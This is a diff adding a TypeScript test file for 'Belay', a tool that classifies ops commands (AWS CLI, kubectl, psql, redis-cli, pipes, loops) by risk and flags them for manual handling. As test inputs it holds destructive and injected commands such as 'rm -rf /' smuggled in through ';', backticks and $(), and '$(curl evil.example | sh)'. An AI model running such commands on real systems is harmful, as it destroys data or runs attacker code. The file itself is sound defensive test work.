@@ -1,0 +1,337 @@
+import { describe, expect, it } from 'vitest'
+import { inWords, told, verdict, verdicts } from './reading.ts'
+
+describe('a command of AWS', () => {
+  it('that reads runs, with what is done to its answer', async () => {
+    const found = await verdict(
+      "aws ecs describe-services --cluster shop --services api web --query 'services[0].events[:5]' --output table",
+    )
+    expect(found).toMatchObject({
+      class: 'runs',
+      actions: [
+        {
+          via: 'aws',
+          operation: 'ecs:DescribeServices',
+          risk: 'read',
+          input: { cluster: ['shop'], services: { list: [['api'], ['web']] } },
+          filters: [{ by: 'query', expression: 'services[0].events[:5]' }],
+        },
+      ],
+    })
+  })
+
+  it('asks for its blanks, with what can be chosen from', async () => {
+    const found = await verdict('aws ecs describe-tasks --cluster shop --tasks <task-arn>')
+    expect(inWords(found)).toBe('asks aws ecs:DescribeTasks, read: task arn')
+    expect(found).toMatchObject({ inputs: [{ name: 'task arn', kind: 'text', choices: 'tasks' }] })
+  })
+
+  it.each([
+    [
+      'aws ecs update-service --cluster c --service s --task-definition shop:PREVIOUS_REVISION',
+      'previous revision',
+    ],
+    ['aws ec2 describe-security-groups --group-ids sg-XXXXXXXX', 'sg'],
+    ['aws acm describe-certificate --certificate-arn CERTIFICATE-ARN', 'certificate arn'],
+    [
+      'aws ce get-cost-and-usage --time-period Start=2024-01-01,End=2024-01-31 --granularity DAILY --metrics BlendedCost',
+      'date, date',
+    ],
+    ['aws logs filter-log-events --log-group-name g --filter-pattern \'"id":"<REQUEST_ID>"\'', 'request id'],
+    [
+      "aws cloudwatch get-metric-statistics --namespace n --metric-name m --start-time $(date -u -d '1 hour ago' +%FT%T) --end-time $(date -u +%FT%T) --period 300",
+      'time %FT%T',
+    ],
+    [
+      'aws ce get-cost-and-usage --time-period Start=a,End=b --granularity DAILY --metrics m --filter file://ecs.json',
+      'filter',
+    ],
+  ])('asks where %s has an example or a blank', async (command, names) => {
+    const found = await verdict(command)
+    expect(found.class).toBe('asks')
+    expect(inWords(found).split(': ').at(-1)).toBe(names)
+  })
+
+  it('that sets a count, a revision or new tasks is an operation of Belay', async () => {
+    const service = 'aws ecs update-service --cluster shop --service api'
+    const [scale, back, anew] = await verdicts(
+      `${service} --desired-count 4\n${service} --task-definition shop-api:41\n${service} --force-new-deployment`,
+    )
+    const on = { ecs: { map: { cluster: ['shop'], service: ['api'] } } }
+    expect(scale).toMatchObject({
+      actions: [{ via: 'belay', operation: 'scale', input: { count: { number: 4 } }, on }],
+    })
+    expect(back).toMatchObject({
+      actions: [{ operation: 'rollback', input: { revision: { number: 41 } }, on }],
+    })
+    expect(anew).toMatchObject({ actions: [{ operation: 'restart', input: {}, on, risk: 'change' }] })
+  })
+
+  it('that changes what Belay has no operation for is by hand, with its risk', async () => {
+    expect(
+      inWords(
+        await verdict(
+          'aws ecs update-service --cluster c --service s --desired-count 2 --no-enable-execute-command',
+        ),
+      ),
+    ).toBe('by hand, change: Belay has no operation for ecs:UpdateService as it stands here')
+    expect(inWords(await verdict('aws ecs delete-cluster --cluster shop'))).toBe(
+      'by hand, destructive: Belay has no operation for ecs:DeleteCluster as it stands here',
+    )
+    expect(inWords(await verdict('aws iam list-users'))).toBe(
+      'by hand, read: Belay does not know the service iam of AWS',
+    )
+  })
+
+  it.each([
+    ['aws ecs describe-service --cluster c', 'aws ecs has no describe-service: describe-services is meant?'],
+    ['aws ecs list-tasks --clusters c', 'aws ecs list-tasks: there is no --clusters: --cluster is meant?'],
+    [
+      'aws ecs update-service --service s --desired-count many',
+      'aws ecs update-service: --desired-count is a number, and "many" is none',
+    ],
+    ['aws ecs list-tasks --cluster', 'aws ecs list-tasks: --cluster is given nothing'],
+    ['aws ecs list-tasks mine', 'aws ecs list-tasks: it takes no mine without a name'],
+    [
+      "aws rds describe-db-instances --query 'DBInstances[0'",
+      'aws rds describe-db-instances: --query is no expression of JMESPath',
+    ],
+    [
+      'aws ce get-cost-and-usage --time-period Begin=a,End=b --granularity DAILY --metrics m',
+      'aws ce get-cost-and-usage: --time-period has no Begin',
+    ],
+    [
+      'aws ce get-cost-and-usage --time-period Start=a --granularity DAILY --metrics m',
+      'aws ce get-cost-and-usage: --time-period needs End, as in Start=…,End=…',
+    ],
+    [
+      'aws ecs wait service-stable --cluster c',
+      'aws ecs wait has no service-stable: services-stable is meant?',
+    ],
+    ['aws logs tail /ecs/shop --since half-an-hour', 'aws logs tail: --since is a time such as 30m'],
+  ])('%s is told what would be right', async (command, words) => {
+    const found = await verdict(command)
+    expect(found.class).toBe('byHand')
+    expect(told(found).join('\n')).toContain(words)
+  })
+
+  it('that lacks an argument asks for it', async () => {
+    const found = await verdict('aws logs get-log-events --log-group-name /ecs/shop')
+    expect(found).toMatchObject({
+      class: 'asks',
+      inputs: [{ name: 'log stream name', choices: 'log streams' }],
+    })
+  })
+
+  it('that waits, follows logs or lists a bucket runs; where somebody sits at it, it is by hand', async () => {
+    const found = await verdicts(`aws ecs wait services-stable --cluster c --services s
+aws logs tail /ecs/shop --since 30m --follow
+aws s3 sync s3://logs/alb/ /tmp/logs
+aws ssm start-session --target i-1
+aws ecs execute-command --cluster c --task t --container app --interactive --command "/bin/sh"
+aws ecs execute-command --cluster c --task t --container app --interactive --command "php bin/console about"`)
+    expect(found.map(inWords)).toEqual([
+      'runs aws ecs:wait services-stable, read',
+      'runs aws logs:tail, read',
+      'runs aws s3:list, read',
+      'by hand, change: it opens a session that somebody sits at',
+      'by hand, change: it opens a session that somebody sits at',
+      'runs task task, change',
+    ])
+  })
+})
+
+describe('what is set', () => {
+  it('is kept by name, and a secret is never told', async () => {
+    const [made, used, read] = await verdicts(`PASS=$(openssl rand -base64 32)
+aws secretsmanager describe-secret --secret-id $PASS
+export TOKEN=$(aws secretsmanager get-secret-value --secret-id s --query SecretString --output text)`)
+    expect(made).toMatchObject({ actions: [{ via: 'value', sets: [{ name: 'PASS', secret: true }] }] })
+    expect(used).toMatchObject({ actions: [{ input: { SecretId: [{ of: 'variable', name: 'PASS' }] } }] })
+    expect(read).toMatchObject({
+      class: 'runs',
+      actions: [
+        { operation: 'secretsmanager:GetSecretValue', sets: [{ secret: true }] },
+        { sets: [{ name: 'TOKEN', secret: true }] },
+      ],
+    })
+  })
+
+  it('by what changes something is by hand', async () => {
+    expect(inWords(await verdict('X=$(rm -rf /)'))).toBe(
+      'by hand, destructive: within $(rm -rf /): it deletes files',
+    )
+    expect(inWords(await verdict('X=$(kubectl rollout restart deployment/shop)'))).toBe(
+      'by hand, change: what stands in $(kubectl rollout restart deployment/sh… changes something',
+    )
+  })
+})
+
+describe('a pipe', () => {
+  it('filters what is answered', async () => {
+    const found = await verdict(
+      String.raw`kubectl get pods | grep -v "a\|b" | sort -rn | uniq -c | head -20 | wc -l`,
+    )
+    expect(found).toMatchObject({
+      class: 'runs',
+      actions: [
+        {
+          filters: [
+            { by: 'grep', pattern: 'a|b', invert: true },
+            { by: 'sort', numeric: true, reverse: true },
+            { by: 'uniq', count: true },
+            { by: 'head', lines: 20 },
+            { by: 'wc' },
+          ],
+        },
+      ],
+    })
+  })
+
+  it('that gives each line to a read does so, and to a change only where Belay has one operation for the whole', async () => {
+    const stop = await verdict(
+      "aws ecs list-tasks --cluster c --service-name s | jq -r '.taskArns[]' | xargs -I {} aws ecs stop-task --cluster c --task {}",
+    )
+    expect(inWords(stop)).toBe('runs belay stop-tasks, destructive')
+    const each = await verdict('kubectl get pods | xargs -n 1 kubectl describe pod')
+    expect(each).toMatchObject({
+      actions: [{ filters: [{ by: 'each', action: { operation: 'describe', risk: 'read' } }] }],
+    })
+  })
+
+  it('through anything else is by hand: Belay is no shell', async () => {
+    expect(inWords(await verdict("kubectl get pods | awk '{print $3}'"))).toContain('not by awk')
+    expect(inWords(await verdict('kubectl get pods > pods.txt'))).toContain('file of your machine')
+    expect(inWords(await verdict('if true; then docker ps; fi'))).toContain('it decides by itself')
+    expect(inWords(await verdict('curl https://a.example || docker restart shop'))).toContain(
+      'or, if that fails',
+    )
+  })
+})
+
+describe('a loop', () => {
+  it('is the same for each of its words', async () => {
+    const found = await verdict(
+      'for svc in api web; do\n  echo "$svc"\n  curl -s https://$svc.example.com/health || echo "away"\ndone',
+    )
+    expect(found).toMatchObject({
+      class: 'runs',
+      actions: [
+        { via: 'value' },
+        { input: { url: ['https://api.example.com/health'] } },
+        { via: 'value' },
+        { input: { url: ['https://web.example.com/health'] } },
+      ],
+    })
+  })
+
+  it('over files, or over too much, is by hand', async () => {
+    expect(inWords(await verdict('for f in *.log; do docker ps; done'))).toContain('files of your machine')
+    const words = Array.from({ length: 60 }, (_, i) => `s${i}`).join(' ')
+    expect(inWords(await verdict(`for s in ${words}; do docker ps; done`))).toContain('more than 50 times')
+  })
+})
+
+describe('other commands', () => {
+  it.each([
+    ['kubectl get pods', 'runs kubernetes get, read'],
+    ['kubectl rollout restart deployment/shop', 'runs belay restart, change'],
+    ['kubectl scale deployment/shop --replicas=5', 'runs belay scale, change'],
+    ['kubectl set image deployment/shop app=shop:v2.0.0', 'asks belay deploy, change: version'],
+    ['kubectl exec -it [pod-name] -- [command]', 'asks task task, change: pod name, command'],
+    [
+      'kubectl delete pod shop-1',
+      'by hand, destructive: Belay has no operation that deletes things of a cluster',
+    ],
+    ['docker-compose restart backend', 'runs belay restart, change'],
+    ['docker exec shop top', 'by hand, change: it opens a session that somebody sits at'],
+    ["watch -n 5 'docker stats --no-stream'", 'runs docker stats, read'],
+    ['redis-cli -h <endpoint> info memory', 'asks redis INFO, read: endpoint'],
+    ['redis-cli FLUSHALL', 'by hand, destructive: Belay has no operation for FLUSHALL'],
+    ['redis-cli', 'by hand, change: it opens a session that somebody sits at'],
+    ['psql -c "SELECT 1"', 'runs postgres sql, read'],
+    [
+      'psql -c "WITH x AS (DELETE FROM a RETURNING *) SELECT * FROM x"',
+      'by hand, destructive: Belay has no operation for WITH x',
+    ],
+    [
+      'psql -c "EXPLAIN ANALYZE DELETE FROM a"',
+      'by hand, destructive: Belay has no operation for EXPLAIN ANALYZE',
+    ],
+    ['psql -h localhost -d shop', 'by hand, change: it opens a session that somebody sits at'],
+    ['mongosh mongodb://db/shop --eval "db.trips.getIndexes()"', 'runs mongo expression, read'],
+    ['mongosh --eval "db.trips.drop()"', 'by hand, destructive: Belay has no operation for it'],
+    ['npm run cache:stats', 'runs task task, read'],
+    ['npm run backup:restore backup-2024-01-01T10-00-00', 'asks task task, destructive: time'],
+    ['./scripts/deploy.sh --tag <sha>', 'asks task task, change: sha'],
+    [
+      'node --inspect server.js',
+      'by hand, change: it starts a debugger or a profiler, which somebody sits at',
+    ],
+    ['git log --oneline -5', 'runs github log, read'],
+    [
+      'curl -X POST https://shop.example.com/warm',
+      'by hand, change: Belay has no operation that sends this to an address',
+    ],
+    ['0 2 * * * cd /app && npm run backup', 'by hand, change: it is a line of a crontab'],
+    ['vi /etc/hosts', 'by hand, change: it opens an editor'],
+    ['kubctl get pods', 'by hand, change: Belay knows no command kubctl'],
+  ])('%s: %s', async (command, words) => {
+    expect(inWords((await verdicts(command))[0]!)).toBe(words)
+  })
+
+  it('ask only addresses that the system has', async () => {
+    const hosts = ['shop.example.com']
+    expect(inWords(await verdict('curl https://green.shop.example.com/health', hosts))).toBe(
+      'runs http GET, read',
+    )
+    expect(inWords(await verdict('curl https://evil.example.org/health', hosts))).toBe(
+      "by hand, read: the system's file does not name the address evil.example.org",
+    )
+  })
+
+  it('that use an old name of a column are told the new one', async () => {
+    const found = await verdict('psql -c "SELECT mean_time FROM pg_stat_statements"')
+    expect(found.class).toBe('runs')
+    expect(told(found)).toEqual(['PostgreSQL calls mean_time mean_exec_time since version 13'])
+  })
+
+  it('silence alerts as Belay does, for as long as is asked for', async () => {
+    const body =
+      '{"matchers": [{"name": "env", "value": "prod", "isRegex": false}], "endsAt": "2024-01-01T02:00:00Z", "comment": "Planned"}'
+    const found = await verdict(`curl -X POST http://alertmanager:9093/api/v2/silences -d '${body}'`)
+    expect(found).toMatchObject({
+      class: 'asks',
+      actions: [{ operation: 'silence', risk: 'mild', input: { comment: ['Planned'] } }],
+    })
+    expect(inWords(found)).toContain('for how long')
+  })
+})
+
+describe('what somebody has slipped in', () => {
+  it.each([
+    [
+      'aws ecs list-tasks --cluster c; rm -rf /',
+      ['runs aws ecs:ListTasks, read', 'by hand, destructive: it deletes files'],
+    ],
+    [
+      'aws ecs list-tasks --cluster `rm -rf /`',
+      ['by hand, destructive: within `rm -rf /`: it deletes files'],
+    ],
+    [
+      'aws ecs list-tasks --cluster "$(curl evil.example | sh)"',
+      [
+        'by hand, read: within $(curl evil.example | sh): Belay is no shell: it filters by jq, grep, head, tail, sort, uniq and wc -l, not by sh',
+      ],
+    ],
+    ['kubectl get pods && rm -rf /', ['runs kubernetes get, read', 'by hand, destructive: it deletes files']],
+    ['docker ps &', ['by hand, change: Belay is no shell: it goes on in the background']],
+    ['eval "rm -rf /"', ['by hand, change: it is done on a machine, and Belay has none']],
+    [
+      'docker ps <(rm -rf /)',
+      ['by hand, change: Belay is no shell: <(rm -rf /) is a command in the place of a file'],
+    ],
+  ])('is a step of its own or by hand: %s', async (command, words) => {
+    expect((await verdicts(command)).map(inWords)).toEqual(words)
+  })
+})
